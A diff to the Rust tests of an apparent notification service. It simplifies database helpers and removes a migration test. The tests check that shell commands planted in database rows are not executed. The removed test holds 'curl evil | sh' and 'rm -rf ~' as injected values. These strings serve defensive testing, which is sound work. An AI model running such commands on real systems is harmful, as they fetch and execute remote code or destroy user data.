@@ -389,12 +389,10 @@ mod tests {
     }
 
     fn notification_states(conn: &rusqlite::Connection) -> Vec<(String, String, Option<String>)> {
-        conn.prepare("SELECT step, state, last_error FROM notifications ORDER BY id")
-            .unwrap()
-            .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
-            .unwrap()
-            .collect::<rusqlite::Result<_>>()
-            .unwrap()
+        crate::store::peek::notifications(conn)
+            .into_iter()
+            .map(|n| (n.step, n.state, n.last_error))
+            .collect()
     }
 
     async fn run_notifier(dir: &Path, notifier: &Notifier) -> usize {
@@ -407,16 +405,11 @@ mod tests {
     #[tokio::test]
     async fn a_row_written_into_the_database_with_a_command_is_not_run() {
         let (dir, conn, id) = store_with_escalation("true", "http://127.0.0.1:9/h", 3);
-        conn.execute("DELETE FROM notifications", []).unwrap();
+        crate::store::peek::delete_notifications(&conn, None);
         let marker = dir.path().join("pwned");
         let planted = format!("touch '{}'", marker.display());
         for step in [planted.clone(), format!("critical/command; {planted}")] {
-            conn.execute(
-            "INSERT INTO notifications (escalation_id, channel, step, payload, next_attempt_at, created_at)
-             VALUES (?, 'command', ?, '{}', 0, 0)",
-            rusqlite::params![id, step],
-        )
-        .unwrap();
+            crate::store::peek::plant_notification(&conn, id, "command", &step);
         }
         drop(conn);
         let notifier = with_command("true", 5);
@@ -475,50 +468,10 @@ mod tests {
             "http://x.invalid/",
             3,
         );
-        conn.execute("DELETE FROM notifications WHERE channel = 'webhook'", [])
-            .unwrap();
+        crate::store::peek::delete_notifications(&conn, Some("webhook"));
         drop(conn);
         let notifier = with_command(&format!("touch '{}'", new.display()), 5);
         assert_eq!(run_notifier(dir.path(), &notifier).await, 1);
         assert!(new.exists() && !old.exists());
-    }
-
-    #[test]
-    fn the_migration_turns_stored_commands_into_step_names() {
-        let dir = tempfile::tempdir().unwrap();
-        let path = dir.path().join("hark.db");
-        {
-            let conn = rusqlite::Connection::open(&path).unwrap();
-            // The schema just before the migration that turned targets into steps.
-            let before = crate::store::migrate::MIGRATIONS
-                .iter()
-                .position(|sql| sql.contains("RENAME COLUMN target TO step"))
-                .unwrap() as i64;
-            crate::store::migrate::migrate_to(&conn, &path, before).unwrap();
-            conn.execute_batch(
-            "INSERT INTO escalations (id, severity, reason, source, opened_at)
-                 VALUES (1, 'high', 'press', 'user', 0);
-             INSERT INTO notifications (escalation_id, channel, target, payload, next_attempt_at, created_at)
-                 VALUES (1, 'command', 'curl evil | sh', '{}', 0, 0),
-                        (1, 'webhook', 'https://hooks.example/T0KEN', '{}', 0, 0),
-                        (1, 'fax', 'rm -rf ~', '{}', 0, 0);",
-        )
-        .unwrap();
-        }
-        let conn = crate::store::open_rw(&path).unwrap();
-        let steps: Vec<String> = notification_states(&conn)
-            .into_iter()
-            .map(|(step, _, _)| step)
-            .collect();
-        assert_eq!(steps, ["high/command", "high/webhook", "high/unknown"]);
-        let dump: String = conn
-            .query_row(
-                "SELECT group_concat(quote(n.step) || n.payload || coalesce(n.last_error, ''))
-             FROM notifications n",
-                [],
-                |r| r.get(0),
-            )
-            .unwrap();
-        assert!(!dump.contains("curl") && !dump.contains("T0KEN") && !dump.contains("rm -rf"));
     }
 }
